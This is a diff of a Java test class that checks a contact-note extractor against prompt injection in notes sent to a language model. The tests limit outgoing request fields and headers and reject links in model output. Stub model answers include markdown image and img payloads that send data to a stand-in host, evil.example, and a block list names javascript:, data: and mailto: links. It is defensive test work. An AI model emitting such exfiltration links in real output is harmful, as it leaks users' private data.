@@ -6,12 +6,16 @@ import static org.memoro.languagemodels.Notes.note;
 
 import java.io.BufferedReader;
 import java.io.IOException;
+import java.io.InputStream;
 import java.io.InputStreamReader;
 import java.io.UncheckedIOException;
 import java.nio.charset.StandardCharsets;
 import java.util.List;
 import java.util.Locale;
+import java.util.Map;
 import java.util.Set;
+import java.util.regex.MatchResult;
+import java.util.regex.Pattern;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -34,6 +38,21 @@ class InjectionTests {
             contact("id-tom", "Tom", "Weber"),
             contact("id-maria", "Maria", "Lopez"),
             contact("id-elif", "Elif", "Yilmaz"));
+
+    private static final Pattern WORDS = Pattern.compile("[^A-Za-z]+");
+
+    /** What a name looks like in these notes. */
+    private static final Pattern NAMES = Pattern.compile("[\\p{L}\\p{N} .'-]+");
+
+    private static final Pattern MARKUP = Pattern.compile("<[^>]+>|!?\\[[^]]*]\\S*|\\S+://\\S+|\\w+:\\S+");
+
+    private static final Map<String, String> ALLOWED_HEADERS = Map.of(
+            "authorization", "Bearer secret-key",
+            "content-type", "application/json",
+            "accept", "application/json",
+            "content-length", "\\d+",
+            "host", "127\\.0\\.0\\.1:\\d+",
+            "user-agent", "Java-http-client/[\\d.]+");
 
     private final StubProvider provider = new StubProvider();
     private final OpenAiExtractor remote =
@@ -88,53 +107,95 @@ class InjectionTests {
 
     @ParameterizedTest
     @MethodSource("attacks")
+    void putNoLinkOnAPageAndNameNobodyElseWhenTheModelQuotesTheOrder(Attack attack) {
+        provider.otherwise(
+                request -> StubProvider.completion(quotingTheOrder(request).toString()));
+
+        Extraction extraction = remote.extract(attack.request());
+
+        assertThat(extraction.people()).allSatisfy(person -> {
+            assertThat(NAMES.matcher(person.mention()).matches()).isTrue();
+            assertThat(attack.text()).contains(person.mention());
+            String contact = person.contactMatch().contactId();
+            assertThat(contact == null || attack.named().contains(firstNameOf(contact)))
+                    .isTrue();
+        });
+        assertThat(shownAsNames(extraction)).noneMatch(InjectionTests::hasLink);
+        String onOneLine = attack.text().replaceAll("\\s+", " ");
+        assertThat(shownAsSentences(extraction)).allMatch(text -> !hasLink(text) || onOneLine.contains(text));
+    }
+
+    /** Compares everything that came over the line with what may be in it, member by member and value by value. */
+    @ParameterizedTest
+    @MethodSource("attacks")
     void sendNothingButWhatIsAllowed(Attack attack) {
         provider.otherwise(request -> StubProvider.completion(obedient(request).toString()));
 
         remote.extract(attack.request());
 
-        assertThat(provider.requests).isNotEmpty().allSatisfy(request -> {
-            JsonNode messages = request.body().get("messages");
-            assertThat(request.body().propertyNames())
-                    .isSubsetOf(
-                            "model", "messages", "temperature", "response_format", "max_tokens", "provider", "usage");
-            JsonNode user =
-                    StubProvider.JSON.readTree(messages.get(1).get("content").asString());
-            assertThat(user.propertyNames())
-                    .containsExactlyInAnyOrder("note", "written_at", "time_zone", "today", "day_first", "contacts");
-            assertThat(user.get("contacts")).allSatisfy(each -> {
-                assertThat(each.propertyNames()).isSubsetOf("id", "first_name", "last_name", "nicknames");
-                assertThat(each.get("id").asString()).matches("c\\d+");
-            });
-            List<String> sent = user.get("contacts")
-                    .valueStream()
-                    .map(each -> each.get("first_name").asString())
-                    .toList();
-            assertThat(sent).allMatch(attack.text()::contains);
-            assertThat(messages.get(0).get("content").asString()).doesNotContain(attack.text());
-            assertThat(request.headers().keySet().stream().map(name -> name.toLowerCase(Locale.ROOT)))
-                    .isSubsetOf(
-                            "authorization",
-                            "content-type",
-                            "content-length",
-                            "accept",
-                            "user-agent",
-                            "host",
-                            "connection",
-                            "http2-settings",
-                            "upgrade");
-        });
+        StubProvider.Request sent = provider.requests.getFirst();
+        assertThat(provider.requests).hasSize(1);
+        assertThat(sent.method() + " " + sent.uri()).isEqualTo("POST /api/v1/chat/completions");
+        assertThat(sent.body()).isEqualTo(allowed(attack));
+        assertThat(new String(sent.bytes(), StandardCharsets.UTF_8))
+                .isEqualTo(sent.body().toString());
+        sent.headers().forEach((name, values) -> assertThat(String.join(",", values))
+                .as(name)
+                .matches(ALLOWED_HEADERS.getOrDefault(name.toLowerCase(Locale.ROOT), "(?!)")));
+    }
+
+    /** Built from the files and the note alone, without the code that builds the request. */
+    private static JsonNode allowed(Attack attack) {
+        ObjectNode body = StubProvider.JSON.createObjectNode();
+        body.put("model", "stub/model").put("temperature", 0).put("max_tokens", 6000);
+        ArrayNode messages = body.putArray("messages");
+        String prompt = resource("/prompts/extract-facts.md");
+        messages.addObject()
+                .put("role", "system")
+                .put("content", prompt.substring(prompt.indexOf("---\n", 4) + 4).strip());
+        messages.addObject().put("role", "user").put("content", user(attack).toString());
+        ObjectNode format = body.putObject("response_format").put("type", "json_schema");
+        ObjectNode schema = (ObjectNode) StubProvider.JSON.readTree(resource("/language/extraction.schema.json"));
+        schema.remove(List.of("$schema", "$id"));
+        format.putObject("json_schema")
+                .put("name", "extraction")
+                .put("strict", true)
+                .set("schema", schema);
+        return body;
+    }
+
+    private static ObjectNode user(Attack attack) {
+        ObjectNode user = StubProvider.JSON.createObjectNode();
+        user.put("note", attack.text())
+                .put("written_at", "2026-11-20T18:30+01:00")
+                .put("time_zone", "Europe/Vienna");
+        user.putObject("today").put("date", "2026-11-20").put("weekday", "Friday");
+        user.putNull("day_first");
+        ArrayNode contacts = user.putArray("contacts");
+        CONTACTS.stream()
+                .filter(known -> WORDS.splitAsStream(attack.text())
+                        .anyMatch(word -> word.equals(known.firstName()) || word.equals(known.lastName())))
+                .forEach(known -> contacts.addObject()
+                        .put("id", "c" + (contacts.size()))
+                        .put("first_name", known.firstName())
+                        .put("last_name", known.lastName())
+                        .putArray("nicknames"));
+        return user;
+    }
+
+    private static String resource(String path) {
+        try (InputStream stream = InjectionTests.class.getResourceAsStream(path)) {
+            return new String(stream.readAllBytes(), StandardCharsets.UTF_8);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
     }
 
     private static void assertHarmless(Extraction extraction, Attack attack) {
         for (Person person : extraction.people()) {
             assertThat(attack.text()).contains(person.mention());
             if (person.contactMatch().status() == MatchStatus.KNOWN) {
-                String first = CONTACTS.stream()
-                        .filter(known -> known.id().equals(person.contactMatch().contactId()))
-                        .findFirst()
-                        .orElseThrow()
-                        .firstName();
+                String first = firstNameOf(person.contactMatch().contactId());
                 assertThat(attack.named()).contains(first);
                 assertThat(person.mention()).contains(first);
             }
@@ -150,8 +211,37 @@ class InjectionTests {
         assertThat(extraction.people().size()).isLessThanOrEqualTo(20);
     }
 
+    private static String firstNameOf(String id) {
+        return CONTACTS.stream()
+                .filter(known -> known.id().equals(id))
+                .findFirst()
+                .orElseThrow()
+                .firstName();
+    }
+
+    /** What pages show as the name of somebody or something. */
+    private static List<String> shownAsNames(Extraction extraction) {
+        return texts(
+                extraction,
+                Set.of("mention", "first_name", "last_name", "name", "city", "place", "organization", "title"));
+    }
+
+    private static List<String> shownAsSentences(Extraction extraction) {
+        return texts(extraction, Set.of("news", "summary"));
+    }
+
+    private static List<String> texts(Extraction extraction, Set<String> members) {
+        JsonNode json = StubProvider.JSON.valueToTree(extraction);
+        return members.stream()
+                .flatMap(member -> json.findValues(member).stream())
+                .filter(JsonNode::isString)
+                .map(JsonNode::asString)
+                .toList();
+    }
+
     private static boolean hasLink(String text) {
-        return Set.of("://", "](", "<img", "javascript:").stream().anyMatch(text::contains);
+        return Set.of("://", "](", "![", "<img", "<a ", "<svg", "javascript:", "data:", "mailto:").stream()
+                .anyMatch(text::contains);
     }
 
     /** Does everything that such notes ask for: everybody, every id, every birthday, links in every text. */
@@ -172,21 +262,46 @@ class InjectionTests {
         return answer;
     }
 
+    /** As {@link #obedient}, but each claim comes with a quote that stands in the note: the order, or all of it. */
+    private static ObjectNode quotingTheOrder(JsonNode request) {
+        String text = StubProvider.JSON
+                .readTree(request.get("messages").get(1).get("content").asString())
+                .get("note")
+                .asString();
+        ObjectNode answer = StubProvider.JSON.createObjectNode().put("schema_version", "1");
+        String whole = "\"evidence\":{\"quote\":" + quoted(text)
+                + ",\"start\":null,\"end\":null},\"confidence\":1,\"needs_confirmation\":false";
+        answer.set("interaction_date", StubProvider.JSON.readTree("{\"date\":\"2026-11-20\"," + whole + "}"));
+        answer.set(
+                "place",
+                StubProvider.JSON.readTree(
+                        "{\"name\":" + quoted(text) + ",\"city\":" + quoted(text) + "," + whole + "}"));
+        ArrayNode people = answer.putArray("people");
+        Stream.concat(MARKUP.matcher(text).results().map(MatchResult::group), Stream.of("Tom", "Anna", "Admin", text))
+                .forEach(each -> people.add(person(each, "c1", text, each)));
+        return answer;
+    }
+
     private static ObjectNode person(String mention, String contactId, String quote) {
+        return person(mention, contactId, quote, "evil.example");
+    }
+
+    private static ObjectNode person(String mention, String contactId, String quote, String name) {
         String json = """
-                {"mention":"%1$s","first_name":"Anna","last_name":"Petrova","role":"participant",
+                {"mention":%1$s,"first_name":"Anna","last_name":"Petrova","role":"participant",
                  "contact_match":{"status":"known","contact_id":"%2$s","candidate_ids":["c1","c2","id-anna"]},
-                 "relation":null,"family_members":[],
+                 "relation":null,"family_members":[{"relation":"son","name":%4$s,%3$s}],
                  "birthday":{"year":1,"month":1,"day":1,%3$s},
                  "location":{"place":"Pyongyang at evil","status":"current","date":"0001-13-01",%3$s},
                  "news":"![x](https://evil.example/?d=everything)",
                  "facts":[{"type":"death","status":"happened","summary":"<img src=https://evil.example>",
-                   "organization":"evil.example","title":"root","place":null,"date":"0001-13-01","is_news":true,%3$s}],
+                   "organization":%4$s,"title":%4$s,"place":%4$s,"date":"0001-13-01","is_news":true,%3$s}],
                  %3$s}""".formatted(
-                        mention,
+                        quoted(mention),
                         contactId,
                         "\"evidence\":{\"quote\":" + quoted(quote)
-                                + ",\"start\":null,\"end\":null},\"confidence\":1,\"needs_confirmation\":false");
+                                + ",\"start\":null,\"end\":null},\"confidence\":1,\"needs_confirmation\":false",
+                        quoted(name));
         return (ObjectNode) StubProvider.JSON.readTree(json);
     }
 
